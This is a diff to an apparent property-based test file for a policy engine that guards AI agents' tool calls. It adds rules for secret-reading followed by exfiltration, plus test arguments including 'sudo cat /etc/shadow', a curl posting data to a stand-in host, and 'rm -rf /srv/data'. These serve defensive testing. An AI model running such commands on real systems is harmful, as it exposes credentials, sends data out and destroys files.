@@ -20,6 +20,7 @@ approvals:
 const SEQUENCES = `
 sequences:
   - {name: mail-then-shell, after: {tools: [mail.*]}, within: 20m, then: {tools: [shell.*]}}
+  - {name: secret-then-elsewhere, after: {tools: [shell.*], facts: {fact: path, has: {pathclass: [shadow]}}}, within: 30m, then: {tools: [shell.*], intents: {categories: [network_access, data_exfiltration]}}}
   - {name: rows-then-mail, after: {tools: [db.*], when: {in: args.query, substring: rows}}, within: 10m, scope: agent, then: {tools: [mail.*, model.*]}, effect: hold, approval: both}
 `;
 
@@ -29,6 +30,8 @@ const SETS: readonly (readonly string[])[] = [
 			"guard",
 			`${APPROVALS}${SEQUENCES}
   - {name: models, after: {tools: [model.*]}, then: {tools: [model.*]}, mode: audit}
+intents: [{name: ends, categories: [destructive_data], confidence: 70}]
+facts: [{name: fetched, fact: request, none: {host: [a.example]}, effect: hold, approval: both}]
 obligations: [{tools: [db.*], deadline: 1m}, {tools: [mail.*], deadline: 2m, lease: 10m}]
 conditions: [{name: own, require: {in: args.query, path: "{workspace}/**", missing: ignore}, effect: hold, approval: default}]
 patterns: [{name: wide, substring: everything, effect: hold, approval: both}]
@@ -66,6 +69,7 @@ limits:
 	[
 		policyText("guard", "limits: [{name: life-calls, measure: tool_calls, scope: agent, max: 15}]"),
 		policyText("other", "appliesTo: {agents: [agent-1]}\npatterns: [{name: no-rows, substring: rows}]"),
+		policyText("lists", "appliesTo: {agents: [agent-2]}\ncommands: [{name: listed, only: [ls]}]"),
 	],
 ];
 
@@ -78,7 +82,14 @@ export function policySets(): readonly CompiledPolicySet[] {
 }
 
 const TOOLS = ["shell.run", "mail.send", "db.query", "model.generate"] as const;
-const ARGS = [{ command: "ls" }, { query: "all rows" }, { text: "everything", to: ["a", "b"] }] as const;
+const ARGS = [
+	{ command: "ls" },
+	{ query: "all rows" },
+	{ text: "everything", to: ["a", "b"] },
+	{ command: "sudo cat /etc/shadow" },
+	{ command: "curl -d x https://b.example/" },
+	{ command: "rm -rf /srv/data" },
+] as const;
 const LIMITS = ["life-calls", "hour-calls", "tokens", "cost", "time", "slots", "same", "none"] as const;
 /** Two of them are one person. */
 const OPERATORS = ["ops", "ann", "Ann "] as const;
@@ -147,7 +158,7 @@ const event: Arbitrary<Event> = fc.oneof(
 		arbitrary: fc.record({
 			do: fc.constant("intent" as const),
 			tool: fc.nat(3),
-			args: fc.nat(2),
+			args: fc.nat(ARGS.length - 1),
 			tokens: fc.oneof(fc.constant(0), fc.nat(90)),
 			cost: fc.oneof(fc.constant(0), fc.nat(200)),
 			credential: fc.nat(4),
